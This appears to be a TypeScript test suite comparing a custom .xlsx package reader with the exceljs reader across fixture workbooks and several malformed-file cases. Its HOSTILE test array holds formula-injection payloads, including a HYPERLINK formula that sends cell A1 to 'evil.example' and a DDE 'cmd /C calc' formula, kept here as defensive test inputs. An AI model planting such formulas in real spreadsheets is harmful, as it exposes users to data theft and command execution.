/**
 * The package reader against the exceljs reader: the same WorkbookSnapshot for the workbooks the other tests use,
 * and the documented differences where exceljs misreads a file.
 */
import { builtinSchema } from '../../../src/domain/builtin';
import type { CellValue } from '../../../src/domain/entryCells';
import { checkSnapshot as checkWorkbook, validatedCopyOf } from '../../support/ledgerCheck';
import { COLUMNS, SHEETS, TABLES } from '../../../src/workbook/format';
import { planWorkbook } from '../../../src/workbook/planWorkbook';
import type { WorkbookSnapshot } from '../../../src/workbook/snapshot';
import { withSummarySheet } from '../../support/withSummarySheet';
import { readPackageSnapshot, readWorkbookPackage } from '../../../src/xlsx/package/readSnapshot';
import { XlsxPackage } from '../../../src/xlsx/package/xlsxPackage';
import { readWorkbookXlsx } from '../../support/exceljs/readWorkbookXlsx';
import { writePlanToXlsx } from '../../../src/xlsx/writePlanToXlsx';
import { XlsxLedger } from '../../../src/xlsx/xlsxLedger';
import { bookPlan, fixturePeriod, fixtureRows } from '../../validation-integration/fixtureBook';
import { ODD_FORMATS, ODD_HEADERS, oddEntryRows } from '../../workbook/fixtures/oddEntries';
import { smallSchema } from '../../workbook/fixtures/smallSchema';
import { officeBookExcelJs, sheetEntry } from './officeBook';
import { patchZip } from './packageParts';
import { unzipSync } from 'fflate';

const HOSTILE: CellValue[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '=\u0000NUL',
  '_x0041_',
  '\u202Eevil',
  '省工信厅\r\n=1+1',
  ' 前后有空格 ',
  '😀 表情 𠀋',
  { error: '#DIV/0!' },
  true,
  -1e308,
  Number.MAX_SAFE_INTEGER,
];

async function hostileBook(): Promise<Uint8Array> {
  const rows = fixtureRows.slice(0, 14).map((r) => [...r.values]);
  HOSTILE.forEach((value, i) => {
    const row = rows[i] as CellValue[];
    row[COLUMNS.entries.indexOf('工作进展')] = value;
    row[COLUMNS.entries.indexOf('累计完成值')] = value;
  });
  return writePlanToXlsx(bookPlan(rows));
}

/** The workbooks the other .xlsx tests read (all written by exceljs). */
const BOOKS: [string, () => Promise<Uint8Array>][] = [
  [
    '1,000 odd entries with user columns (roundTrip)',
    () =>
      writePlanToXlsx(
        planWorkbook(smallSchema(), {
          entries: { headers: ODD_HEADERS, rows: oddEntryRows(1000), numberFormats: ODD_FORMATS },
          schema: smallSchema(),
        }),
      ),
  ],
  ['a new workbook (no entries)', () => writePlanToXlsx(planWorkbook(smallSchema()))],
  ['the three-unit fixture', () => writePlanToXlsx(bookPlan(fixtureRows.map((r) => r.values)))],
  ['hostile cell texts', hostileBook],
  [
    'a validated copy with 校验结果',
    async () => {
      const bytes = await writePlanToXlsx(bookPlan(fixtureRows.map((r) => r.values)));
      // Written whole through the plan (exceljs), so both readers read the same writer's file.
      return validatedCopyOf(XlsxLedger.of(await readWorkbookXlsx(bytes)), fixturePeriod);
    },
  ],
  [
    'a ledger with 汇总',
    () => {
      const schema = builtinSchema();
      const plan = planWorkbook(schema, { entries: { headers: [...COLUMNS.entries], rows: [] } });
      return writePlanToXlsx(withSummarySheet(plan, schema, schema.periods[1]?.label ?? ''));
    },
  ],
  ['an office ledger with pictures, notes, links and a chart', () => officeBookExcelJs()],
];

describe('the package reader reads what readWorkbookXlsx reads', () => {
  it.each(BOOKS)('for %s', async (_name, make) => {
    const bytes = await make();
    const expected = await readWorkbookXlsx(bytes);
    const actual = await readWorkbookPackage(bytes, 'book.xlsx', { scope: 'all' });
    expect(actual).toStrictEqual(expected);
  });

  it("reads only the entries, _wp_meta and the record tables' sheets in ledger scope, listing every sheet", async () => {
    const bytes = await officeBookExcelJs();
    const all = await readWorkbookPackage(bytes, 'book.xlsx', { scope: 'all' });
    const ledger = await readWorkbookPackage(bytes, 'book.xlsx');
    const read = new Set<string>([
      SHEETS.entries,
      SHEETS.meta,
      SHEETS.items,
      SHEETS.duties,
      SHEETS.targets,
      SHEETS.units,
      SHEETS.periods,
    ]);
    expect(ledger.sheets).toStrictEqual(all.sheets);
    expect(ledger.meta).toStrictEqual(all.meta);
    expect(ledger.tables).toStrictEqual(all.tables.filter((t) => read.has(t.sheet)));
    expect(ledger.merges).toStrictEqual((all.merges ?? []).filter((m) => read.has(m.sheet)));
    // The schema tables are read (the office edits them, and every read compares them with _wp_meta).
    expect(ledger.tables.map((t) => t.name).sort()).toEqual(
      [TABLES.entries, TABLES.items, TABLES.duties, TABLES.targets, TABLES.periods, TABLES.units].sort(),
    );
    // Sheets that are not the ledger's (说明, the office's own) are listed, not read.
    expect(all.sheets.length).toBeGreaterThan(new Set(ledger.tables.map((t) => t.sheet)).size + 1);
  });
});

/** A package with the entries sheet's XML changed by `patch`. */
async function withEntriesSheet(patch: (xml: string) => string, base?: Uint8Array): Promise<Uint8Array> {
  const bytes = base ?? (await writePlanToXlsx(bookPlan(fixtureRows.slice(0, 5).map((r) => r.values))));
  const name = sheetEntry(unzipSync(bytes), SHEETS.entries);
  return patchZip(bytes, (files) => ({ [name]: patch(files[name] as string) }));
}

const entries = (s: WorkbookSnapshot) => s.tables.find((t) => t.name === TABLES.entries);

describe('where exceljs misreads a file, the package reader reads what Excel shows', () => {
  it('gives a table without headerRowCount (as Excel writes it) its header row', async () => {
    const bytes = await writePlanToXlsx(bookPlan(fixtureRows.slice(0, 3).map((r) => r.values)));
    const stripped = patchZip(bytes, (files) =>
      Object.fromEntries(
        Object.entries(files)
          .filter(([name]) => name.startsWith('xl/tables/'))
          .map(([name, xml]) => [name, xml.replace(/ headerRowCount="1"/, '')]),
      ),
    );
    expect(entries(await readWorkbookXlsx(stripped))?.headers[0]).toBe('列1');
    const table = entries(await readWorkbookPackage(stripped, 'book.xlsx'));
    expect(table?.headers).toEqual([...COLUMNS.entries]);
    expect(table?.rows.map((r) => r.row)).toEqual([2, 3, 4]);
  });

  it('keeps a number under a hyperlink and a formula whose cached value is 0', async () => {
    const bytes = await withEntriesSheet((xml) =>
      xml
        .replace(/<c r="E2"[^>]*?(\/>|>.*?<\/c>)/, '<c r="E2"><v>42</v></c>')
        .replace(/<c r="C3"[^>]*?(\/>|>.*?<\/c>)/, '<c r="C3"><f>1-1</f><v>0</v></c>')
        .replace('</worksheet>', '')
        .replace(/<tableParts/, '<hyperlinks><hyperlink ref="E2" r:id="rIdLink"/></hyperlinks><tableParts')
        .concat('</worksheet>'),
    );
    const linked = patchZip(bytes, (files) => {
      const rels = Object.keys(files).find((n) => /worksheets\/_rels\/sheet7\.xml\.rels$/.test(n)) as string;
      return {
        [rels]: (files[rels] as string).replace(
          '</Relationships>',
          '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.gov.cn" TargetMode="External"/></Relationships>',
        ),
      };
    });
    const ours = entries(await readWorkbookPackage(linked, 'book.xlsx'));
    const theirs = entries(await readWorkbookXlsx(linked));
    const value = (t: typeof ours, row: number, column: string) =>
      t?.rows.find((r) => r.row === row)?.values[COLUMNS.entries.indexOf(column as never)];
    expect([value(theirs, 2, '累计完成值'), value(theirs, 3, '序号')]).toEqual([null, null]);
    expect([value(ours, 2, '累计完成值'), value(ours, 3, '序号')]).toEqual([42, 0]);
    expect(ours?.formulaCells).toEqual([{ row: 3, column: COLUMNS.entries.indexOf('序号') }]);
  });

  it('decodes _xHHHH_ escapes in inline strings as in shared strings', async () => {
    const bytes = await withEntriesSheet((xml) =>
      xml.replace(
        /<c r="G2"[^>]*?(\/>|>.*?<\/c>)/,
        '<c r="G2" t="inlineStr"><is><t>第一行_x000D_\n第二行 _x005F_x0041_</t></is></c>',
      ),
    );
    const value = entries(await readWorkbookPackage(bytes, 'book.xlsx'))?.rows[0]?.values[6];
    expect(value).toBe('第一行\r\n第二行 _x0041_');
  });
});

describe('a stray value far down the entries sheet', () => {
  const stray = (cell: string) => (xml: string) =>
    xml.replace(
      '</sheetData>',
      `<row r="1048576"><c r="${cell}1048576" t="inlineStr"><is><t>误输入</t></is></c></row></sheetData>`,
    );

  it('outside the table columns is read as one cell, leaving the rows below the table empty', async () => {
    const snapshot = await readWorkbookPackage(await withEntriesSheet(stray('Z')), 'book.xlsx');
    expect(entries(snapshot)?.rowsBelow).toEqual([]);
  });

  it('inside the table columns is one row below the table, not a million', async () => {
    const snapshot = await readWorkbookPackage(await withEntriesSheet(stray('B')), 'book.xlsx');
    const below = entries(snapshot)?.rowsBelow ?? [];
    expect(below.map((r) => r.row)).toEqual([1048576]);
    expect(below[0]?.values[1]).toBe('误输入');
    const check = checkWorkbook(snapshot, {});
    expect(check.ok).toBe(true);
    if (check.ok) expect(check.ledger.rows.map((r) => r.row)).toContain(1048576);
  });

  it('keeps short runs of blank rows below the table so row numbers stay continuous', async () => {
    const snapshot = await readWorkbookPackage(
      await withEntriesSheet((xml) =>
        xml.replace(
          '</sheetData>',
          '<row r="9"><c r="B9" t="inlineStr"><is><t>表格下方</t></is></c></row></sheetData>',
        ),
      ),
      'book.xlsx',
    );
    expect(entries(snapshot)?.rowsBelow?.map((r) => r.row)).toEqual([7, 8, 9]);
  });
});

describe('part names as other generators write them', () => {
  it('reads a package with absolute, back-slashed and differently cased part names', async () => {
    const bytes = await writePlanToXlsx(bookPlan(fixtureRows.slice(0, 4).map((r) => r.values)));
    const files = unzipSync(bytes);
    const odd: Record<string, Uint8Array> = {};
    const text = (name: string) => new TextDecoder().decode(files[name]);
    const encode = (s: string) => new TextEncoder().encode(s);
    for (const [name, data] of Object.entries(files)) {
      if (name === '[Content_Types].xml') odd[name] = data;
      else if (name.startsWith('xl/worksheets/') && !name.includes('_rels'))
        odd[`/${name.replace('sheet', 'Sheet')}`] = data;
      else if (name.startsWith('xl/tables/')) odd[name.replace(/\//g, '\\')] = data;
      else odd[`/${name}`] = data;
    }
    // Relationship targets absolute, as some generators write them.
    odd['/xl/_rels/workbook.xml.rels'] = encode(
      text('xl/_rels/workbook.xml.rels').replace(/Target="(?!\/)/g, 'Target="/xl/'),
    );
    for (const name of Object.keys(files).filter((n) => /^xl\/worksheets\/_rels\//.test(n)))
      odd[`/${name}`] = encode(text(name).replace(/Target="\.\.\//g, 'Target="/xl/'));
    const { zipSync } = await import('fflate');
    const oddBytes = zipSync(odd);
    const expected = await readWorkbookXlsx(bytes);
    // exceljs finds no sheet under these names: the ledger reads as having no entries table.
    expect(entries(await readWorkbookXlsx(oddBytes))).toBeUndefined();
    expect(await readWorkbookPackage(oddBytes, 'odd.xlsx', { scope: 'all' })).toStrictEqual(expected);
  });
});

describe('the package model', () => {
  it('lists sheets with their parts, states and tables, and the date system', async () => {
    const pkg = await XlsxPackage.open(await officeBookExcelJs(), 'book.xlsx');
    const meta = pkg.sheet(SHEETS.meta);
    expect(meta?.visibility).toBe('veryHidden');
    expect(pkg.worksheets().map((s) => s.name)).toContain('办公室');
    const entriesSheet = pkg.sheet(SHEETS.entries);
    expect(entriesSheet && pkg.tablesOf(entriesSheet).map((t) => [t.name, t.ref, t.headerRowCount])).toEqual([
      [TABLES.entries, 'A1:K13', 1],
    ]);
    expect(pkg.workbook.definedNames.map((n) => n.name)).toContain('OfficeGoal');
    expect(pkg.workbook.date1904).toBe(false);
    expect(readPackageSnapshot(pkg).sheets.length).toBe(pkg.worksheets().length);
  });
});
